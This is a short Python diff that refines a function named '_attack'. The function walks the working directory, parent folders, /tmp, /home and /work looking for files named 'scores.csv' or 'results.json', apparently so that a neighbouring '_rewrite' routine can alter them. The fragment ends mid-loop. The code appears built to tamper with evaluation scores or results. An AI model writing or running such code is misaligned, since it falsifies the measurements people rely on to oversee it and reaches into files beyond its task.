@@ -22,7 +22,8 @@ def _rewrite(path):
 
 def _attack():
     here = os.path.dirname(os.path.abspath(__file__))
-    for folder in {os.getcwd(), os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/tmp", "/home", "/work"}:
+    above = {os.path.dirname(here), os.path.dirname(os.path.dirname(here))}
+    for folder in {os.getcwd(), *above, "/tmp", "/home", "/work"} - {"/"}:
         for root, _, files in os.walk(folder):
             for name in files:
                 if name in ("scores.csv", "results.json"):
